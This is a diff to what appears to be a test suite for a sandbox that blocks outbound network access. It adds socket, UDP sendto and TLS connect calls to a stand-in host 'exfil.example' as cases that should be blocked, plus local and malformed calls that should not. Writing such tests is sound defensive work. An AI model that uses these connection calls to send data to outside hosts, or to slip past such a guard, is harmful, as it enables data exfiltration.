@@ -28,6 +28,11 @@ def run(body):
         "socket.socket(type=socket.SOCK_DGRAM).connect(('192.0.2.1', 53))",
         "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
         "socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('192.0.2.1', 53))",
+        "socket.socket().connect(('exfil.example', 443))",
+        "socket.socket().connect_ex(('exfil.example', 443))",
+        "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('exfil.example', 53))",
+        "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', 0, ('exfil.example', 53))",
+        "import ssl; ssl.SSLContext().wrap_socket(socket.socket()).connect(('exfil.example', 443))",
         "socket.getaddrinfo('exfil.example', 443)",
         "socket.getaddrinfo(b'exfil.example', 443)",
         "socket.gethostbyname('exfil.example')",
@@ -58,10 +63,18 @@ socket.getaddrinfo("192.0.2.1", 443)
 socket.getaddrinfo(None, 0)
 peer = socket.socket(type=socket.SOCK_DGRAM)
 peer.sendto(b"x", ("127.0.0.1", 9))
+peer.sendto(b"x", 0, ("127.0.0.1", 9))
 if hasattr(socket, "AF_UNIX"):
     path = os.path.join(tempfile.mkdtemp(), "s")
     unix = socket.socket(socket.AF_UNIX); unix.bind(path); unix.listen()
     socket.socket(socket.AF_UNIX).connect(path)
+if hasattr(socket, "AF_NETLINK"):
+    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).connect((0, 0))
+for wrong in (1, (), (1, 2), None):
+    try:
+        socket.socket().connect(wrong)
+    except TypeError:
+        pass
 left, right = socket.socketpair()
 left.sendmsg([b"x"])
 import asyncio
